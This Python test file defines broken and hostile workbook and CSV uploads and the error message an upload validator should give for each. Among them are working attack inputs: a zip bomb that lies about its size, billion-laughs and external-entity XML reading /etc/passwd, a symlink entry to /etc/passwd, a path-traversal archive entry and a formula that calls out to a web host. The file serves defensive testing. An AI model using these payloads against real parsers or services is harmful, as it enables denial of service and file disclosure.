"""Uploads that are broken or hostile, each made from the good workbook, with the sentence that is expected."""

import io
import stat
import zipfile
from dataclasses import dataclass

import openpyxl


@dataclass(frozen=True)
class Upload:
    """`make(workbook bytes)` gives the bytes; `said` must stand in the answer, `exit` is the status of the command."""

    name: str
    make: object
    said: str
    exit: int = 1
    file: str = "back.xlsx"
    options: tuple = ()


def book(change):
    """Change the workbook by openpyxl."""
    def make(content):
        found, output = openpyxl.load_workbook(io.BytesIO(content)), io.BytesIO()
        change(found)
        found.save(output)
        return output.getvalue()
    return make


def cell(sheet, place, value):
    """Put a value into one cell."""
    return book(lambda found: found[sheet].__setitem__(place, value))


def parts(change):
    """Change the archive: `change(name → bytes)`; what is given back replaces it."""
    def make(content):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            files = {name: archive.read(name) for name in archive.namelist()}
        change(files)
        output = io.BytesIO()
        with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in files.items():
                archive.writestr(name, data)
        return output.getvalue()
    return make


def part(name, data):
    """Put one more part into the archive."""
    return parts(lambda files: files.__setitem__(name, data))


def in_part(name, old, new):
    """Replace bytes of a part."""
    def change(files):
        assert old in files[name], name
        files[name] = files[name].replace(old, new, 1)
    return parts(change)


def _symlink(content):
    output = io.BytesIO(content)
    with zipfile.ZipFile(output, "a") as archive:
        entry = zipfile.ZipInfo("xl/media/image1.png")
        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(entry, "/etc/passwd")
    return output.getvalue()


def _zip(files):
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return output.getvalue()


def _lying_bomb(content):
    """A part that says it is small and unpacks into 300 MB."""
    bomb = bytearray(_zip({"xl/bomb.xml": b"0" * (300 * 1024 * 1024), **{}}))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(bomb_file := io.BytesIO(bytes(bomb)), "a") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    data = bytearray(bomb_file.getvalue())
    place = data.index(b"PK\x01\x02")
    data[place + 24:place + 28] = (1000).to_bytes(4, "little")   # the size in the directory
    return bytes(data)


def _laughs(files):
    entities = b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    files["xl/sharedStrings.xml"] = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">' + entities + b"]><sst><si><t>&j;</t></si></sst>"


def _rows(count):
    def change(found):
        for number in range(count):
            found["loans"].cell(4 + number, 2, "x")
    return book(change)


def _many_rows(files):
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(10, 110_000))
    name = next(name for name, data in files.items() if name.startswith("xl/worksheets/sheet") and b"Example" not in data)
    files[name] = files[name].replace(b"</sheetData>", rows + b"</sheetData>")


def _add_row(sheet, *values):
    return book(lambda found: found[sheet].append(values))


def _drop_sheets(found):
    for name in ("branches", "libraries", "loans", "retired"):
        del found[name]
    found.create_sheet("notes")["A1"] = "nothing here"


def csv(text):
    """A CSV file of the loans."""
    return lambda _: text if isinstance(text, bytes) else text.encode()


XML = b'<?xml version="1.0"?>'
LOANS = "key,name_en,lender,borrower,books\n1,Example loan of spring,1,2,40\n2,Example loan of autumn,2,3,12\n"

CASES = [
    Upload("text for a number", cell("loans", "E2", "pet"), "loans!E2: A whole number is needed. “pet” was given. Write digits only."),
    Upload("fraction for a whole number", cell("loans", "E2", 4.5), "loans!E2: A whole number is needed. “4.5” was given."),
    Upload("date for a number", book(lambda b: b["loans"].cell(2, 5, __import__("datetime").date(2012, 5, 1))), "loans!E2: A number is needed, and the cell holds a date."),
    Upload("number with both marks", cell("loans", "E2", "1.234,5"), "loans!E2: A whole number is needed. “1.234,5” was given."),
    Upload("formula", cell("loans", "E2", "=20+20"), "loans!E2: The cell holds a formula. “=20+20” was given."),
    Upload("formula that calls out", cell("loans", "B2", '=WEBSERVICE("http://example.org/"&A1)'), "loans!B2: The cell holds a formula."),
    Upload("number that is none", in_part("xl/worksheets/sheet3.xml", b"<v>40</v>", b"<v>#N/A</v>"), "is not a workbook that can be read", exit=3),
    Upload("error value", book(lambda b: setattr(b["loans"]["E2"], "value", "#N/A")), "loans!E2: The cell holds an error of the spreadsheet program."),
    Upload("required cell emptied", cell("loans", "B3", None), "loans!B3: The cell is empty. A value is needed here."),
    Upload("number below its bounds", cell("loans", "E2", 0), "loans!E2: "),
    Upload("merged cells", book(lambda b: b["loans"].merge_cells("B2:C3")), "loans!B2: Cells are merged. “B2:C3” was given. Unmerge them"),
    Upload("double key", cell("loans", "A3", "1"), "loans!A3: The key “1” stands in row 2 already."),
    Upload("key of a wrong form", _add_row("loans", "x1", "Example", "1", "2", 3), "loans!A4: The value does not have the form"),
    Upload("foreign key to nothing", cell("loans", "C2", "77"), "loans!C2: “77” is not in libraries.csv."),
    Upload("period nobody writes", cell("libraries", "D2", "around 1893"), "libraries!D2: This is not a year, month or day."),
    Upload("day not in the calendar", cell("libraries", "D2", "2004-02-30"), "libraries!D2: There is no such day in the calendar."),
    Upload("number for a day", cell("libraries", "D2", 38231), "libraries!D2: This is not a year, month or day. “38231” was given."),
    Upload("Cyrillic letter in a Latin word", cell("libraries", "C2", "Primer grаdske biblioteke"), "libraries!C2: The word “grаdske” in this Latin text is Cyrillic."),
    Upload("invisible sign", cell("loans", "B2", "Example\u2060 loan"), "loans!B2: The cell holds an invisible control character."),
    Upload("key column removed", book(lambda b: b["loans"].delete_cols(1)), "loans!A1: The key column is missing: key."),
    Upload("heading nobody knows", cell("loans", "B1", "colour"), "loans!B1: Nobody knows this heading. “colour” was given."),
    Upload("heading twice", cell("loans", "C1", "name_en"), "loans!C1: This heading stands twice."),
    Upload("no heading", book(lambda b: b["loans"].delete_rows(1)), "loans!A1: The first row is no heading."),
    Upload("cell beside the table", cell("loans", "J3", "see below"), "loans!J3: The cell stands in a column without a heading. “see below” was given."),
    Upload("the key of a check broken", cell("loans", "D2", "1"), "loans!D2: "),
    Upload("two sheets of one table", book(lambda b: setattr(b.copy_worksheet(b["loans"]), "title", "LOANS ")), "Two sheets are the table loans."),
    Upload("sheet emptied", book(lambda b: b["loans"].delete_rows(1, 10)), "The sheet loans is empty."),
    Upload("none of the tables", book(_drop_sheets), "back.xlsx holds none of the tables.", exit=3),
    Upload("release nobody keeps", cell("_origin", "B2", "1999-01-01"), "The release 1999-01-01, from which this was made, is not kept here.", exit=3),
    Upload("release of another register", cell("_origin", "B3", "0" * 64), "but of another register or of other tables.", exit=3),
    Upload("release that leads out of the folder", cell("_origin", "B2", "../../etc"), "The release ../../etc, from which this was made, is not kept here.", exit=3),
    Upload("empty file", lambda _: b"", "back.xlsx is empty.", exit=3),
    Upload("half a workbook", lambda content: content[:len(content) // 2], "is not a workbook that can be read", exit=3),
    Upload("picture", lambda _: b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "back.xlsx is neither a workbook (.xlsx) nor a CSV file.", exit=3),
    Upload("old workbook or password", lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "is an old .xls workbook or is protected by a password.", exit=3),
    Upload("OpenDocument", lambda _: _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": XML}), "is an OpenDocument spreadsheet.", exit=3),
    Upload("another archive", lambda _: _zip({"a.txt": b"x"}), "is an archive, but no workbook.", exit=3),
    Upload("macros", part("xl/vbaProject.bin", b"x"), "holds macros or controls, which are not taken.", exit=3),
    Upload("macro workbook by its type", in_part("[Content_Types].xml", b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"),
           "holds macros or controls", exit=3),
    Upload("macro sheet", part("xl/macrosheets/sheet1.xml", XML), "holds macros or controls", exit=3),
    Upload("ActiveX", part("xl/activeX/activeX1.xml", XML), "holds macros or controls", exit=3),
    Upload("link to another workbook", part("xl/externalLinks/externalLink1.xml", XML), "leads to other workbooks or data sources.", exit=3),
    Upload("data connection", part("xl/connections.xml", XML), "leads to other workbooks or data sources.", exit=3),
    Upload("embedded file", part("xl/embeddings/oleObject1.bin", b"x"), "holds embedded files.", exit=3),
    Upload("billion laughs", parts(_laughs), "declares a document type", exit=3),
    Upload("external entity", in_part("xl/workbook.xml", b"<workbook", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook'), "declares a document type", exit=3),
    Upload("external entity in UTF-16", part("docProps/custom.xml", '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x>'.encode("utf-16")), "declares a document type", exit=3),
    Upload("zip bomb", part("xl/bomb.xml", b"0" * (257 * 1024 * 1024)), "larger than", exit=3),
    Upload("zip bomb that lies", _lying_bomb, "", exit=3),
    Upload("many parts", parts(lambda files: files.update({f"xl/x{n}.xml": b"" for n in range(2100)})), "larger than", exit=3),
    Upload("link in the archive", _symlink, "The workbook has a part “xl/media/image1.png” that no spreadsheet program would write.", exit=3),
    Upload("path out of the archive", part("../../evil.xml", XML), "that no spreadsheet program would write.", exit=3),
    Upload("a hundred thousand rows", parts(_many_rows), "larger than", exit=3),
    Upload("CSV in UTF-16", csv(LOANS.encode("utf-16")), "loans.csv is in UTF-16.", exit=3, file="loans.csv"),
    Upload("CSV in Windows-1250", csv(LOANS.replace("spring", "šuma").encode("windows-1250")), "Row 2 of loans.csv is not in UTF-8.", exit=3, file="loans.csv"),
    Upload("CSV with an open quotation mark", csv(LOANS + '3,"Example'), "Quotation marks in loans.csv do not match", exit=3, file="loans.csv"),
    Upload("CSV of no table", csv(LOANS), "lends.csv holds none of the tables.", exit=3, file="lends.csv"),
    Upload("CSV said to be a table that is not there", csv(LOANS), "There is no table “lends”.", exit=2, file="loans.csv", options=("--table", "lends")),
    Upload("CSV with NUL bytes", csv(LOANS.replace("spring", "spr\0ing")), "is neither a workbook (.xlsx) nor a CSV file.", exit=3, file="loans.csv"),
    Upload("CSV with text for a number", csv(LOANS.replace(",40", ",pet")), "loans!E2: A whole number is needed. “pet” was given.", file="loans.csv"),
    Upload("CSV with a cell too many", csv(LOANS.replace(",40", ",40,x")), "loans!F2: The cell stands in a column without a heading.", file="loans.csv"),
]
